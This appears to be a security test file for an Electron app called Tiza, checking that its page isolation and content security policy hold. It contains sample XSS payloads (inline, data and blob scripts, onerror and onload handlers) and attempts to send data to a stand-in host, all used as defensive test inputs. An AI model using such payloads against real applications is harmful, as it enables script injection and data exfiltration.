import { expect, expectUnharmed, onItsOwn, test } from '../support/attacked.ts';

// What a script in the page could find, and what the page's own policy keeps it from.

test('there is nothing of Node or Electron in the page', async ({ attacked: { page } }) => {
  const found = await page.evaluate(() => {
    const names = [
      'require',
      'process',
      'module',
      'exports',
      'Buffer',
      'global',
      'ipcRenderer',
      'electron',
      '__dirname',
      'setImmediate',
    ];
    return names.filter((name) => name in window);
  });
  expect(found).toEqual([]);
});

test('the bridge offers names and nothing behind them', async ({ attacked: { page } }) => {
  const shape = await page.evaluate(() => {
    const bridge = window.tiza as unknown as Record<string, Record<string, unknown>>;
    const kinds = Object.entries(bridge).flatMap(([space, methods]) =>
      typeof methods === 'function'
        ? [`${space}: function`]
        : Object.values(methods).map((method) => typeof method),
    );
    const honest = bridge.course?.open;
    // A page's own script may be strict, and then it throws instead.
    try {
      bridge.app = {};
      Object.assign(bridge.course ?? {}, { open: () => 'mine' });
    } catch {}
    const same = bridge.course?.open === honest && Object.keys(bridge.app ?? {}).length > 0;
    return { kinds: [...new Set(kinds)].sort(), same };
  });
  expect(shape.kinds).toEqual(['function', 'on: function']);
  expect(shape.same).toBe(true);
});

test('an event nobody agreed on cannot be listened to', async ({ attacked: { page } }) => {
  const answers = await page.evaluate(() => {
    const on = window.tiza.on as unknown as (name: unknown, listener: () => void) => unknown;
    return ['__proto__', 'constructor', 'ELECTRON_BROWSER_SANDBOX_LOAD', 42, null].map(
      (name) => typeof on(name, () => undefined),
    );
  });
  expect(new Set(answers)).toEqual(new Set(['function']));
});

test('the page’s policy refuses code that did not come with Tiza', async ({ attacked }) => {
  const { page } = attacked;
  expect(await onItsOwn(page, () => new Function('return "ran"')())).toBe('EvalError');
  // biome-ignore lint/security/noGlobalEval: the attack itself
  expect(await onItsOwn(page, () => globalThis.eval('"ran"'))).toBe('EvalError');
  const ran = await page.evaluate(async () => {
    const script = (change: (element: HTMLScriptElement) => void) => {
      const element = document.createElement('script');
      change(element);
      document.head.append(element);
      return element;
    };
    const added = [
      script((element) => {
        element.textContent = 'window.owned = "inline"';
      }),
      script((element) => {
        element.src = 'data:text/javascript,window.owned="data"';
      }),
      script((element) => {
        element.src = URL.createObjectURL(new Blob(['window.owned = "blob"'], { type: 'text/javascript' }));
      }),
      script((element) => {
        element.src = 'https://outside.invalid/owned.js';
      }),
    ];
    const host = document.createElement('div');
    host.innerHTML =
      '<img src="x" onerror="window.owned = `handler`"><svg onload="window.owned = `svg`"></svg>';
    document.body.append(host);
    await new Promise((resolve) => setTimeout(resolve, 150));
    for (const element of [...added, host]) element.remove();
    return (window as { owned?: string }).owned ?? 'nothing';
  });
  expect(ran).toBe('nothing');
  await expectUnharmed(attacked);
});

test('nothing is fetched from, or told to, another machine', async ({ attacked: { page } }) => {
  const outcomes = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const image = new Image();
    image.src = 'https://outside.invalid/seen.png?what=everything';
    const style = document.createElement('style');
    style.textContent = 'h1 { color: rgb(1, 2, 3) !important }';
    const sheet = document.createElement('link');
    Object.assign(sheet, { rel: 'stylesheet', href: 'https://outside.invalid/style.css' });
    const audio = document.createElement('audio');
    audio.src = 'https://outside.invalid/seen.mp3';
    const object = document.createElement('object');
    object.data = 'https://outside.invalid/seen.pdf';
    document.head.append(style, sheet);
    document.body.append(audio, object);
    const attempts = await Promise.all([
      fetch('https://outside.invalid/').then(
        () => 'reached',
        () => 'refused',
      ),
      fetch('app://evil/').then(
        () => 'reached',
        () => 'refused',
      ),
      new Promise((resolve) => {
        try {
          const socket = new WebSocket('wss://outside.invalid/');
          socket.onopen = () => resolve('reached');
          socket.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      }),
      navigator.sendBeacon('https://outside.invalid/', 'everything') ? 'queued' : 'refused',
      navigator.serviceWorker?.register('/worker.js').then(
        () => 'registered',
        () => 'refused',
      ) ?? 'refused',
    ]);
    try {
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
    } catch {
      blocked.push('worker-src');
    }
    await new Promise((resolve) => setTimeout(resolve, 150));
    const heading = document.querySelector('h1');
    const color = heading === null ? '' : getComputedStyle(heading).color;
    for (const element of [style, sheet, audio, object]) element.remove();
    return { attempts, blocked: [...new Set(blocked)].sort(), color };
  });
  expect(outcomes.attempts.slice(0, 3)).toEqual(['refused', 'refused', 'refused']);
  expect(outcomes.attempts).not.toContain('registered');
  expect(outcomes.blocked).toEqual(
    expect.arrayContaining([
      'connect-src',
      'img-src',
      'media-src',
      'object-src',
      'style-src-elem',
      'worker-src',
    ]),
  );
  expect(outcomes.color).not.toBe('rgb(1, 2, 3)');
});
